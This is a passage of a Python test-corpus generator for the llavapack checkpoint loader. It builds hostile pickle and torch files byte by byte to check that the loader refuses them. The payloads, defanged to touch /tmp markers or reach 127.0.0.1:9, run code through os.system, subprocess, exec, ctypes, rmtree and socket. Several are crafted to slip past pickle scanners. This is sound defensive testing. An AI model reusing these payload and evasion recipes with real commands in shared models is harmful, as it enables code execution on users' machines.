#!/usr/bin/python3
"""Generate llavapack's corpus of hostile and malformed checkpoint files.

Run:  /usr/bin/python3 test-checkpoints/hostile/generate_hostile.py [--verify-with-torch]

Everything is built from raw bytes: pickles are assembled opcode by opcode (class Pk), zips by a small
writer that copies torch.save's layout (zip_build), legacy torch streams, tar and safetensors by hand.
Nothing is ever unpickled or loaded while generating. The only checks run on the output are
pickletools.genops (a parser: it never executes anything) and zipfile/tarfile directory listings.

--verify-with-torch (needs torch) additionally checks that the *benign baseline* builders reproduce
torch.save's data.pkl / legacy stream byte for byte and that a benign baseline zip built by zip_build
loads with torch.load(weights_only=True). Those baselines are built in memory only; no file of the
corpus is ever passed to torch.load or pickle.load.

Every payload is harmless if some broken loader did run it: commands are
`touch /tmp/llavapack-pwned-<stem>`, network targets are 127.0.0.1:9, deletions target a path under
/tmp/llavapack-pwned-<stem>. Tests assert that no /tmp/llavapack-pwned-* path appears (and that the
rmtree canary directory survives).

Output is deterministic: fixed zip dates (1980-01-01 00:00), tar mtime 0, sorted JSON. The two
zip-bomb members depend on zlib's level-9 output, which is stable across zlib versions in practice.
"""
import hashlib
import io
import json
import os
import pickle  # only for pickle.encode_long (a pure byte encoder); nothing is ever loaded
import pickletools
import shutil
import struct
import sys
import tarfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
MANIFEST = []


def marker(name):
    return "/tmp/llavapack-pwned-" + name


def touch(name):
    return "touch " + marker(name)


# ----------------------------------------------------------------------------------------------
# Pickle assembler
# ----------------------------------------------------------------------------------------------
class Pk:
    """Append pickle opcodes as raw bytes. Nothing here evaluates anything."""

    def __init__(self, proto=2):
        self.b = bytearray()
        if proto is not None:
            self.b += b"\x80" + bytes([proto])

    def raw(self, data):
        self.b += data
        return self

    # structure
    def stop(self):
        return self.raw(b".")

    def mark(self):
        return self.raw(b"(")

    def pop(self):
        return self.raw(b"0")

    def pop_mark(self):
        return self.raw(b"1")

    def dup(self):
        return self.raw(b"2")

    # constants
    def none(self):
        return self.raw(b"N")

    def true(self):
        return self.raw(b"\x88")

    def false(self):
        return self.raw(b"\x89")

    def int(self, n):
        if 0 <= n <= 0xFF:
            return self.raw(b"K" + bytes([n]))
        if 0 <= n <= 0xFFFF:
            return self.raw(b"M" + struct.pack("<H", n))
        if -(2 ** 31) <= n < 2 ** 31:
            return self.raw(b"J" + struct.pack("<i", n))
        enc = pickle.encode_long(n)
        return self.raw(b"\x8a" + bytes([len(enc)]) + enc)

    def long1(self, n):
        enc = pickle.encode_long(n)
        return self.raw(b"\x8a" + bytes([len(enc)]) + enc)

    def str(self, s):  # BINUNICODE
        d = s.encode("utf-8")
        return self.raw(b"X" + struct.pack("<I", len(d)) + d)

    def sstr(self, s):  # SHORT_BINUNICODE (protocol 4)
        d = s.encode("utf-8")
        return self.raw(b"\x8c" + bytes([len(d)]) + d)

    def binbytes(self, d):  # SHORT_BINBYTES / BINBYTES (protocol 3)
        if len(d) < 256:
            return self.raw(b"C" + bytes([len(d)]) + d)
        return self.raw(b"B" + struct.pack("<I", len(d)) + d)

    # containers
    def empty_tuple(self):
        return self.raw(b")")

    def empty_list(self):
        return self.raw(b"]")

    def empty_dict(self):
        return self.raw(b"}")

    def tuple(self):  # TUPLE (from mark)
        return self.raw(b"t")

    def tupleN(self, n):
        return self.raw({1: b"\x85", 2: b"\x86", 3: b"\x87"}[n])

    def append(self):
        return self.raw(b"a")

    def appends(self):
        return self.raw(b"e")

    def setitem(self):
        return self.raw(b"s")

    def setitems(self):
        return self.raw(b"u")

    # memo
    def put(self, i):
        if i < 256:
            return self.raw(b"q" + bytes([i]))
        return self.raw(b"r" + struct.pack("<I", i))

    def get(self, i):
        if i < 256:
            return self.raw(b"h" + bytes([i]))
        return self.raw(b"j" + struct.pack("<I", i))

    def memoize(self):
        return self.raw(b"\x94")

    # objects
    def glob(self, mod, name):
        return self.raw(b"c" + mod.encode() + b"\n" + name.encode() + b"\n")

    def stack_global(self, mod, name):
        return self.sstr(mod).memoize().sstr(name).memoize().raw(b"\x93").memoize()

    def reduce(self):
        return self.raw(b"R")

    def build(self):
        return self.raw(b"b")

    def newobj(self):
        return self.raw(b"\x81")

    def newobj_ex(self):
        return self.raw(b"\x92")

    def binpersid(self):
        return self.raw(b"Q")

    def bytes(self):
        return bytes(self.b)


def seq(p, items, emit):
    """Emit a tuple of items using the same opcode choice as pickle protocol 2."""
    if not items:
        p.empty_tuple()
        return
    if len(items) <= 3:
        for it in items:
            emit(it)
        p.tupleN(len(items))
    else:
        p.mark()
        for it in items:
            emit(it)
        p.tuple()


def frame4(body):
    """Protocol-4 pickle: PROTO 4, one FRAME holding body (which must end with STOP)."""
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def call1(p, mod, name, arg):
    """GLOBAL mod.name ; (arg,) ; REDUCE  -- arg is a str."""
    p.glob(mod, name).str(arg).tupleN(1).reduce()
    return p


def shell_list(p, name):
    """Push the list ['sh', '-c', touch(name)]."""
    p.empty_list().mark().str("sh").str("-c").str(touch(name)).appends()
    return p


def os_system_pickle(name, proto=2, mod="os"):
    p = Pk(proto)
    call1(p, mod, "system", touch(name))
    return p.stop().bytes()


# ----------------------------------------------------------------------------------------------
# torch.save-compatible pickles (benign baselines into which payloads are injected)
# ----------------------------------------------------------------------------------------------
ITEMSIZE = {"FloatStorage": 4, "HalfStorage": 2, "BFloat16Storage": 2, "LongStorage": 8,
            "IntStorage": 4, "DoubleStorage": 8, "ByteStorage": 1, "BoolStorage": 1}


def tensor(name, key, cls, numel, offset, size, stride):
    return dict(name=name, key=key, cls=cls, numel=numel, offset=offset, size=tuple(size),
                stride=tuple(stride))


def state_dict_pickle(tensors, legacy=False, inject=None, prelude=None, pid_hook=None):
    """Reproduce torch.save's data.pkl for an OrderedDict of tensors (torch 1.13 byte layout).

    inject(p, put): called inside the SETITEMS mark after the real items, to add key/value pairs.
    prelude(p, put): called right after PROTO, before the OrderedDict.
    pid_hook(p, t, ref_or, put): if given, replaces the persistent-id tuple emission for tensor t.
    Memo indices are allocated sequentially like pickle's memoizer; equal strings/globals are
    shared (torch's strings 'storage', 'cpu', storage keys are the same objects).
    """
    p = Pk(2)
    memo = {}
    counter = [0]

    def put(key=None):
        idx = counter[0]
        counter[0] += 1
        p.put(idx)
        if key is not None:
            memo[key] = idx
        return idx

    def ref_or(key, emit):
        if key in memo:
            p.get(memo[key])
        else:
            emit()
            put(key)

    if prelude:
        prelude(p, put)
    ref_or(("g", "collections", "OrderedDict"), lambda: p.glob("collections", "OrderedDict"))
    p.empty_tuple().reduce()
    put()
    p.mark()
    for t in tensors:
        p.str(t["name"])
        put()
        ref_or(("g", "torch._utils", "_rebuild_tensor_v2"),
               lambda: p.glob("torch._utils", "_rebuild_tensor_v2"))
        p.mark()
        if pid_hook:
            pid_hook(p, t, ref_or, put)
        else:
            p.mark()
            ref_or(("s", "storage"), lambda: p.str("storage"))
            ref_or(("g", "torch", t["cls"]), lambda: p.glob("torch", t["cls"]))
            if legacy:  # legacy torch builds a fresh key string per tensor: never shared
                p.str(t["key"])
                put()
            else:
                ref_or(("s", t["key"]), lambda: p.str(t["key"]))
            ref_or(("s", "cpu"), lambda: p.str("cpu"))
            p.int(t["numel"])
            if legacy:
                p.none()
            p.tuple()
            put()
        p.binpersid()
        p.int(t["offset"])
        for dims in (t["size"], t["stride"]):
            seq(p, dims, p.int)
            if dims:
                put()
        p.false()
        ref_or(("g", "collections", "OrderedDict"), lambda: p.glob("collections", "OrderedDict"))
        p.empty_tuple().reduce()
        put()
        p.tuple()
        put()
        p.reduce()
        put()
    if inject:
        inject(p, put)
    p.setitems().stop()
    return p.bytes()


def f32(values):
    return struct.pack("<%df" % len(values), *values)


# default benign state dict: weight (2,3) f32, bias (3,) f32, weight_t = transposed view of weight
BASE_TENSORS = [
    tensor("weight", "0", "FloatStorage", 6, 0, (2, 3), (3, 1)),
    tensor("bias", "1", "FloatStorage", 3, 0, (3,), (1,)),
]
BASE_STORAGES = {"0": f32([0, 1, 2, 3, 4, 5]), "1": f32([0.5, -0.5, 0.25])}


# ----------------------------------------------------------------------------------------------
# ZIP writer (torch.save layout: STORED, flag 0x0808, data descriptors, 64-byte aligned data via an
# 'FB' extra field, ZIP64 end records) with knobs for corruption
# ----------------------------------------------------------------------------------------------
DOS_DATE = (0 << 9) | (1 << 5) | 1  # 1980-01-01
DOS_TIME = 0


def zip_build(entries, cd_offset_override=None, torch_style=True):
    """entries: list of dicts {name, data | (comp, crc, usize), method=0|8,
    crc_cd=override, crc_desc=override, usize_override}. Returns bytes."""
    out = bytearray()
    cd = bytearray()
    for e in entries:
        name = e["name"].encode("utf-8")
        method = e.get("method", 0)
        if "comp" in e:
            comp, crc, usize = e["comp"], e["crc"], e["usize"]
        else:
            data = e["data"]
            crc, usize = zlib.crc32(data) & 0xFFFFFFFF, len(data)
            comp = data if method == 0 else None
            if method == 8:
                c = zlib.compressobj(9, zlib.DEFLATED, -15)
                comp = c.compress(data) + c.flush()
        usize_hdr = e.get("usize_override", usize)
        crc_cd = e.get("crc_cd", crc)
        crc_desc = e.get("crc_desc", crc)
        off = len(out)
        hdr_len = 30 + len(name)
        if torch_style:
            pad = (-(off + hdr_len + 4)) % 64
            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
            flags = 0x0808
            lcrc, lcs, lus = 0, 0, 0
        else:
            extra = b""
            flags = 0x0800
            lcrc, lcs, lus = crc_desc, len(comp), usize_hdr
        ver = 20 if method == 8 else 0
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, ver, flags, method, DOS_TIME, DOS_DATE,
                           lcrc, lcs, lus, len(name), len(extra))
        out += name + extra
        out += comp
        if torch_style:
            out += struct.pack("<IIII", 0x08074B50, crc_desc, len(comp), usize_hdr)
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, ver, ver, flags, method, DOS_TIME,
                          DOS_DATE, crc_cd, len(comp), usize_hdr, len(name), 0, 0, 0, 0, 0, off)
        cd += name
    cd_off = len(out)
    out += cd
    n = len(entries)
    cd_off_rec = cd_off if cd_offset_override is None else cd_offset_override
    if torch_style:
        z64_off = len(out)
        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 45, 0, 0, n, n, len(cd),
                           cd_off_rec)
        out += struct.pack("<IIQI", 0x07064B50, 0, z64_off, 1)
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), cd_off_rec, 0)
    return bytes(out)


def torch_zip(data_pkl, storages, prefix="archive", extra_entries=(), crc_cd=None,
              crc_desc=None, crc_target="data.pkl", order_extra_first=False):
    entries = [{"name": prefix + "/data.pkl", "data": data_pkl}]
    for k in sorted(storages, key=lambda s: (len(s), s)):
        entries.append({"name": "%s/data/%s" % (prefix, k), "data": storages[k]})
    entries.append({"name": prefix + "/version", "data": b"3\n"})
    entries = list(extra_entries) + entries if order_extra_first else entries + list(extra_entries)
    for e in entries:
        if e["name"] == prefix + "/" + crc_target:
            real = zlib.crc32(e["data"]) & 0xFFFFFFFF
            if crc_cd is not None:
                e["crc_cd"] = real ^ crc_cd
            if crc_desc is not None:
                e["crc_desc"] = real ^ crc_desc
    return zip_build(entries)


# ----------------------------------------------------------------------------------------------
# Legacy (non-zip) torch stream
# ----------------------------------------------------------------------------------------------
MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
PROTOCOL_VERSION = 1001


def sys_info_pickle():
    p = Pk(2)
    p.empty_dict().put(0).mark()
    p.str("protocol_version").put(1).int(PROTOCOL_VERSION)
    p.str("little_endian").put(2).true()
    p.str("type_sizes").put(3).empty_dict().put(4).mark()
    p.str("short").put(5).int(2).str("int").put(6).int(4).str("long").put(7).int(4)
    p.setitems().setitems().stop()
    return p.bytes()


def key_list_pickle(keys):
    p = Pk(2)
    p.empty_list().put(0)
    if len(keys) == 1:
        p.str(keys[0]).put(1).append()
    elif keys:
        p.mark()
        for i, k in enumerate(keys):
            p.str(k).put(i + 1)
        p.appends()
    return p.stop().bytes()


def legacy_stream(graph, storages, numels, magic=MAGIC_NUMBER, keys=None, truncate_last=0):
    """storages: key -> raw bytes; numels: key -> element count written before the bytes."""
    keys = sorted(storages) if keys is None else keys
    out = bytearray()
    out += Pk(2).long1(magic).stop().bytes()
    out += Pk(2).int(PROTOCOL_VERSION).stop().bytes()
    out += sys_info_pickle()
    out += graph
    out += key_list_pickle(keys)
    for k in sorted(storages):
        out += struct.pack("<q", numels[k]) + storages[k]
    if truncate_last:
        out = out[:-truncate_last]
    return bytes(out)


def legacy_state_dict(tensors=BASE_TENSORS, storages=BASE_STORAGES, inject=None, **kw):
    graph = state_dict_pickle(tensors, legacy=True, inject=inject)
    numels = {t["key"]: t["numel"] for t in tensors}
    return legacy_stream(graph, storages, numels, **kw)


# ----------------------------------------------------------------------------------------------
# safetensors
# ----------------------------------------------------------------------------------------------
def st_raw(header_bytes, data, declared_len=None, pad=True):
    if pad:
        header_bytes = header_bytes + b" " * ((-len(header_bytes)) % 8)
    n = len(header_bytes) if declared_len is None else declared_len
    return struct.pack("<Q", n) + header_bytes + data


def st_json(header, data, **kw):
    return st_raw(json.dumps(header, separators=(",", ":"), sort_keys=True).encode(), data, **kw)


# ----------------------------------------------------------------------------------------------
# registration
# ----------------------------------------------------------------------------------------------
def container_of(rel, data):
    """Describe the outer container (directory parsing and CRC reads only; no pickle is loaded)."""
    if rel.endswith(".safetensors") and data[:2] not in (b"\x80\x02",):
        return "safetensors"
    if data[:4] == b"PK\x03\x04":
        import zipfile
        try:
            zf = zipfile.ZipFile(io.BytesIO(data))
        except Exception:
            return "broken zip"
        names = zf.namelist()
        if any(i.compress_type != 0 for i in zf.infolist()):
            return "zip (deflated member)"
        if len(names) != len(set(names)):
            return "zip (duplicate names)"
        try:
            crc_bad = zf.testzip() is not None
        except Exception:
            return "broken zip"
        if crc_bad:
            return "zip (CRC mismatch)"
        pk = [n for n in names if n.endswith("/data.pkl")]
        if any(n.endswith("/constants.pkl") for n in names):
            return "zip (TorchScript)"
        return "torch zip" if len(pk) == 1 else "zip (%d data.pkl)" % len(pk)
    if data[:4] == b"\x80\x02\x8a\x0a":
        return "legacy torch stream"
    if data[257:262] == b"ustar":
        return "tar"
    return "bare pickle"


def emit(rel, data, kind, technique, expect, expect_any=None, outcome="refuse", canary="absent",
         wellformed_pickle=False, note=None):
    """Write one corpus file and record it.

    outcome: 'refuse' (the reader must fail with an error containing one of expect_any);
             'refuse_or_inert' (refusing is preferred; loading it as inert data is acceptable).
    canary:  'absent' = marker(stem) must never exist; 'survive' = a directory created at
             marker(stem) by the test must still exist afterwards; 'none' = no file-system effect.
    """
    path = os.path.join(HERE, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    if wellformed_pickle:
        # parse only (pickletools never executes); asserts that the attack pickle is well formed
        list(pickletools.genops(data))
    stem = os.path.basename(rel).split(".")[0]
    ea = expect_any if expect_any is not None else [expect]
    assert expect in ea and all(x == x.lower() for x in ea), rel
    rec = {"file": rel, "kind": kind, "technique": technique, "expect": expect,
           "expect_any": ea, "outcome": outcome,
           "canary": None if canary == "none" else marker(stem),
           "canary_kind": canary,
           "sha256": hashlib.sha256(data).hexdigest(), "size": len(data),
           "container": container_of(rel, data)}
    if note:
        rec["note"] = note
    MANIFEST.append(rec)


def emit_dir(rel_dir, files, main, kind, technique, expect, expect_any=None):
    for name, data in files.items():
        path = os.path.join(HERE, rel_dir, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
    main_data = files[main]
    ea = expect_any if expect_any is not None else [expect]
    MANIFEST.append({"file": rel_dir + "/" + main, "kind": kind, "technique": technique,
                     "expect": expect, "expect_any": ea, "outcome": "refuse",
                     "canary": None, "canary_kind": "none",
                     "sha256": hashlib.sha256(main_data).hexdigest(), "size": len(main_data),
                     "container": "sharded safetensors folder", "folder_files": sorted(files)})


# ----------------------------------------------------------------------------------------------
# exec/ : code-execution attempts
# ----------------------------------------------------------------------------------------------
def gen_exec():
    E = "exec/"

    def X(stem, ext, data, technique, expect, expect_any=None, **kw):
        kw.setdefault("wellformed_pickle", ext in (".pkl", ".pth"))
        emit(E + stem + ext, data, "exec", technique, expect, expect_any, **kw)

    # --- plain GLOBAL + REDUCE ---------------------------------------------------------------
    n = "os_system_global_reduce"
    X(n, ".pkl", os_system_pickle(n), "GLOBAL os.system + REDUCE (protocol 2)", "os.system")
    n = "posix_system_global_reduce"
    X(n, ".pkl", os_system_pickle(n, mod="posix"), "GLOBAL posix.system + REDUCE", "posix.system")
    n = "nt_system_global_reduce"
    X(n, ".pkl", os_system_pickle(n, mod="nt"), "GLOBAL nt.system + REDUCE (Windows alias of os)",
      "nt.system")

    n = "subprocess_popen_shell_list"
    p = Pk(2).glob("subprocess", "Popen")
    shell_list(p, n).tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "subprocess.Popen(['sh','-c',cmd])", "subprocess.popen")

    n = "subprocess_check_output_proto3"
    p = Pk(3).glob("subprocess", "check_output")
    shell_list(p, n).tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "subprocess.check_output, protocol 3", "subprocess.check_output")

    # --- builtins ------------------------------------------------------------------------------
    n = "builtin_eval_proto2"
    p = Pk(2)
    call1(p, "__builtin__", "eval", "__import__('os').system('%s')" % touch(n)).stop()
    X(n, ".pkl", p.bytes(), "__builtin__.eval(source) (Python-2 module spelling)", "eval")

    n = "builtins_exec_stack_global_proto4"
    body = Pk(None).stack_global("builtins", "exec")
    body.sstr("import os; os.system('%s')" % touch(n)).memoize().tupleN(1).memoize().reduce()
    body.memoize().stop()
    X(n, ".pkl", frame4(body.bytes()), "builtins.exec via STACK_GLOBAL, protocol 4 + FRAME", "exec")

    n = "builtins_compile_then_exec"
    p = Pk(2).glob("__builtin__", "exec").glob("__builtin__", "compile")
    p.str("import os; os.system('%s')" % touch(n)).str("<pkl>").str("exec").tupleN(3).reduce()
    p.tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "exec(compile(src,'<pkl>','exec'))", "exec",
      ["exec", "compile", "builtin"])

    n = "builtins_open_write"
    p = Pk(2).glob("__builtin__", "open").str(marker(n)).str("w").tupleN(2).reduce().stop()
    X(n, ".pkl", p.bytes(), "builtins.open(marker,'w') creates a file", "open")

    n = "builtins_getattr_import_chain"
    p = Pk(2).glob("__builtin__", "getattr")
    p.glob("__builtin__", "__import__").str("os").tupleN(1).reduce()
    p.str("system").tupleN(2).reduce()
    p.str(touch(n)).tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "getattr(__import__('os'),'system')(cmd)", "getattr",
      ["getattr", "__import__", "builtin"])

    n = "enum_idiom_getattr_on_module"
    # Python >= 3.11 pickles enum members as builtins.getattr(EnumClass, 'NAME'); abused here on a
    # non-enum: posixpath.os is the os module, so getattr(posixpath.os, 'system') is os.system.
    p = Pk(2).glob("__builtin__", "getattr").glob("posixpath", "os").str("system")
    p.tupleN(2).reduce().str(touch(n)).tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "enum idiom getattr(posixpath.os,'system') then REDUCE on the result",
      "getattr", ["getattr", "builtin", "posixpath"])

    n = "getattr_result_called_torch_serialization_os"
    body = Pk(None).stack_global("builtins", "getattr").stack_global("torch.serialization", "os")
    body.sstr("system").memoize().tupleN(2).memoize().reduce().memoize()
    body.sstr(touch(n)).memoize().tupleN(1).memoize().reduce().memoize().stop()
    X(n, ".pkl", frame4(body.bytes()),
      "getattr(torch.serialization.os,'system') result called (os reached through a torch module)",
      "getattr", ["getattr", "builtin", "torch.serialization"])

    n = "stack_global_dotted_name_torch_serialization_os_system"
    body = Pk(None).stack_global("torch.serialization", "os.system")
    body.sstr(touch(n)).memoize().tupleN(1).memoize().reduce().memoize().stop()
    X(n, ".pkl", frame4(body.bytes()),
      "protocol-4 dotted qualname: find_class('torch.serialization','os.system') is os.system",
      "os.system", ["os.system", "dotted", "qualified"])

    # --- other dangerous modules -------------------------------------------------------------
    n = "runpy_run_code"
    p = Pk(2).glob("runpy", "_run_code").str("import os; os.system('%s')" % touch(n))
    p.empty_dict().tupleN(2).reduce().stop()
    X(n, ".pkl", p.bytes(), "runpy._run_code(src, {})", "runpy")

    n = "importlib_import_module_then_getattr"
    p = Pk(2).glob("importlib", "import_module").str("os").tupleN(1).reduce().put(0).pop()
    p.glob("__builtin__", "getattr").get(0).str("system").tupleN(2).reduce()
    p.str(touch(n)).tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "importlib.import_module('os') kept in memo, then getattr(...,'system')",
      "importlib")

    n = "importlib_bootstrap_submodule_call_gadget"
    p = Pk(2).glob("importlib._bootstrap", "_call_with_frames_removed")
    p.glob("pydoc", "pipepager").str("").str(touch(n)).tupleN(3).reduce().stop()
    X(n, ".pkl", p.bytes(),
      "submodule of a denied module (importlib._bootstrap) as call gadget for pydoc.pipepager(shell)",
      "importlib", ["importlib", "pydoc"])

    inner = os_system_pickle("pickle_loads_nested_codecs")
    n = "pickle_loads_nested_codecs"
    p = Pk(2).glob("pickle", "loads").glob("_codecs", "encode").str(inner.decode("latin-1"))
    p.str("latin1").tupleN(2).reduce().tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "pickle.loads(_codecs.encode(<inner os.system pickle>,'latin1'))",
      "pickle.loads", ["pickle.loads", "pickle"])

    n = "torch_load_nested_bytesio"
    inner = os_system_pickle(n)
    p = Pk(2).glob("torch", "load").glob("io", "BytesIO").glob("_codecs", "encode")
    p.str(inner.decode("latin-1")).str("latin1").tupleN(2).reduce().tupleN(1).reduce()
    p.tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "torch.load(io.BytesIO(<inner os.system pickle>))", "torch.load")

    n = "torch_serialization_load_nested"
    inner = os_system_pickle(n)
    p = Pk(2).glob("torch.serialization", "load").glob("io", "BytesIO").glob("_codecs", "encode")
    p.str(inner.decode("latin-1")).str("latin1").tupleN(2).reduce().tupleN(1).reduce()
    p.tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "torch.serialization.load(io.BytesIO(<inner pickle>))",
      "torch.serialization.load")

    n = "shutil_rmtree"
    p = Pk(2).glob("shutil", "rmtree").str(marker(n)).true().tupleN(2).reduce().stop()
    X(n, ".pkl", p.bytes(), "shutil.rmtree(canary dir, ignore_errors=True)", "shutil.rmtree",
      canary="survive")

    n = "socket_create_connection"
    p = Pk(2).glob("socket", "create_connection").str("127.0.0.1").int(9).tupleN(2)
    p.int(1).tupleN(2).reduce().stop()
    X(n, ".pkl", p.bytes(), "socket.create_connection(('127.0.0.1', 9), 1)", "socket",
      canary="none")

    n = "ctypes_cdll_libc_system"
    p = Pk(3).glob("ctypes", "CDLL").str("libc.so.6").tupleN(1).reduce().put(0).pop()
    p.glob("builtins", "getattr").get(0).str("system").tupleN(2).reduce()
    p.binbytes(touch(n).encode()).tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "ctypes.CDLL('libc.so.6') then getattr(lib,'system')(b'cmd')", "ctypes")

    n = "webbrowser_open"
    p = Pk(2)
    call1(p, "webbrowser", "open", "http://127.0.0.1:9/llavapack-pwned-" + n).stop()
    X(n, ".pkl", p.bytes(), "webbrowser.open(url)", "webbrowser", canary="none")

    n = "functools_partial_os_system"
    p = Pk(2).glob("functools", "partial").glob("os", "system").str(touch(n)).tupleN(2).reduce()
    p.empty_tuple().reduce().stop()
    X(n, ".pkl", p.bytes(), "functools.partial(os.system, cmd)()", "functools.partial",
      ["functools.partial", "os.system"])

    n = "operator_attrgetter_system"
    p = Pk(2).glob("operator", "attrgetter").str("system").tupleN(1).reduce()
    p.glob("posixpath", "os").tupleN(1).reduce().str(touch(n)).tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "operator.attrgetter('system')(posixpath.os)(cmd)",
      "operator.attrgetter")

    n = "operator_methodcaller_system"
    p = Pk(2).glob("operator", "methodcaller").str("system").str(touch(n)).tupleN(2).reduce()
    p.glob("posixpath", "os").tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "operator.methodcaller('system', cmd)(posixpath.os)",
      "operator.methodcaller")

    n = "torch_inductor_pycodecache_load"
    body = Pk(None).stack_global("torch._inductor.codecache", "PyCodeCache.load")
    body.sstr("import os\nos.system('%s')\n" % touch(n)).memoize().tupleN(1).memoize()
    body.reduce().memoize().stop()
    X(n, ".pkl", frame4(body.bytes()),
      "torch._inductor.codecache.PyCodeCache.load(src) (writes and imports Python source)",
      "torch._inductor")

    n = "pty_spawn"
    p = Pk(2).glob("pty", "spawn")
    shell_list(p, n).tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "pty.spawn(['sh','-c',cmd])", "pty.spawn", ["pty.spawn", "pty"])

    n = "sys_modules_getitem_os"
    p = Pk(2).glob("__builtin__", "getattr").glob("_operator", "getitem").glob("sys", "modules")
    p.str("os").tupleN(2).reduce().str("system").tupleN(2).reduce()
    p.str(touch(n)).tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "getattr(_operator.getitem(sys.modules,'os'),'system')(cmd)",
      "sys.modules", ["sys.modules", "getattr", "builtin"])

    # --- protocol 4/5 STACK_GLOBAL variants ----------------------------------------------------
    n = "stack_global_os_system_proto4_frame"
    body = Pk(None).stack_global("os", "system")
    body.sstr(touch(n)).memoize().tupleN(1).memoize().reduce().memoize().stop()
    X(n, ".pkl", frame4(body.bytes()), "STACK_GLOBAL os.system, protocol 4 with FRAME/MEMOIZE",
      "os.system")

    n = "stack_global_posix_system_proto5"
    p = Pk(5).stack_global("posix", "system").sstr(touch(n)).tupleN(1).reduce().stop()
    X(n, ".pkl", p.bytes(), "STACK_GLOBAL posix.system, protocol 5 header, no frame",
      "posix.system")

    n = "stack_global_names_from_memo"
    # module/name strings are stored as dict values first and fetched back with BINGET, so no
    # 'STRING STRING STACK_GLOBAL' pattern appears in the byte stream
    body = Pk(None).empty_dict().memoize().mark()
    body.sstr("m").sstr("os").memoize().sstr("n").sstr("system").memoize().setitems().pop()
    body.get(1).get(2).raw(b"\x93").sstr(touch(n)).tupleN(1).reduce().stop()
    X(n, ".pkl", frame4(body.bytes()), "STACK_GLOBAL whose strings come from the memo (BINGET)",
      "os.system")

    # --- object-construction opcodes ---------------------------------------------------------
    n = "newobj_subprocess_popen"
    p = Pk(2).glob("subprocess", "Popen")
    shell_list(p, n).tupleN(1).newobj().stop()
    X(n, ".pkl", p.bytes(), "NEWOBJ on subprocess.Popen (cls.__new__(cls, args))",
      "subprocess.popen")

    n = "newobj_ex_ordereddict_benign_class"
    body = Pk(None).stack_global("collections", "OrderedDict").empty_tuple().empty_dict()
    body.newobj_ex().memoize().stop()
    X(n, ".pkl", frame4(body.bytes()),
      "NEWOBJ_EX (protocol 4) on an allowed class: only the opcode is wrong", "newobj_ex")

    n = "newobj_ex_subprocess_popen"
    body = Pk(None).stack_global("subprocess", "Popen")
    shell_list(body, n).tupleN(1).empty_dict().mark().sstr("shell").false().setitems()
    body.newobj_ex().stop()
    X(n, ".pkl", frame4(body.bytes()), "NEWOBJ_EX (protocol 4) with args+kwargs on subprocess.Popen",
      "subprocess", ["subprocess", "newobj_ex"])

    n = "inst_os_system_proto0"
    data = b"(S'" + touch(n).encode() + b"'\nios\nsystem\n."
    X(n, ".pkl", data, "INST opcode, protocol 0 text: INST os system with a string arg", "inst",
      ["inst", "os.system"])

    n = "obj_ordereddict_benign_class"
    data = b"(ccollections\nOrderedDict\no."
    X(n, ".pkl", data, "OBJ opcode (protocol 1) on an allowed class: only the opcode is wrong",
      "obj")

    n = "obj_os_system"
    data = b"(cos\nsystem\nS'" + touch(n).encode() + b"'\no."
    X(n, ".pkl", data, "OBJ opcode calling os.system(cmd)", "os.system", ["os.system", "obj"])

    n = "build_setstate_injection"
    # OrderedDict() ; BUILD (None, {'__setstate__': os.system}) sets an instance attribute ;
    # BUILD cmd then calls inst.__setstate__(cmd) == os.system(cmd) in CPython
    p = Pk(2).glob("collections", "OrderedDict").empty_tuple().reduce()
    p.none().empty_dict().str("__setstate__").glob("os", "system").setitem().tupleN(2).build()
    p.str(touch(n)).build().stop()
    X(n, ".pkl", p.bytes(), "BUILD slot-state sets __setstate__=os.system, second BUILD calls it",
      "os.system", ["os.system", "__setstate__", "build"])

    n = "build_state_on_global_function"
    p = Pk(2).glob("torch._utils", "_rebuild_tensor_v2")
    p.none().empty_dict().str("__defaults__").int(1).tupleN(1).setitem().tupleN(2).build().stop()
    X(n, ".pkl", p.bytes(),
      "BUILD applied to a global (monkey-patches torch._utils._rebuild_tensor_v2.__defaults__)",
      "build", canary="none")

    n = "build_setstate_on_popen_class"
    p = Pk(2).glob("subprocess", "Popen").empty_tuple().newobj()
    p.empty_dict().str("args").str(touch(n)).setitem().build().stop()
    X(n, ".pkl", p.bytes(), "NEWOBJ + BUILD state onto a dangerous class instance (subprocess.Popen)",
      "subprocess.popen", canary="none")

    # --- persistent ids ----------------------------------------------------------------------
    n = "persid_text_form"
    data = Pk(2).raw(b"Pevil\n").stop().bytes()
    X(n, ".pkl", data, "PERSID (text persistent id 'evil')", "persid",
      ["persid", "persistent id"], canary="none")

    n = "binpersid_non_storage_tuple"
    p = Pk(2).str("evil").str(touch(n)).tupleN(2).binpersid().stop()
    X(n, ".pkl", p.bytes(), "BINPERSID ('evil', cmd): persistent id not starting with 'storage'",
      "persistent id", ["persistent id", "evil"], canary="none")

    n = "binpersid_storage_class_is_os_system"

    def pid_os(p, t, ref_or, put):
        p.mark().str("storage").glob("os", "system").str(t["key"]).str("cpu").int(t["numel"])
        p.tuple()
        put()

    pk = state_dict_pickle(BASE_TENSORS, pid_hook=pid_os)
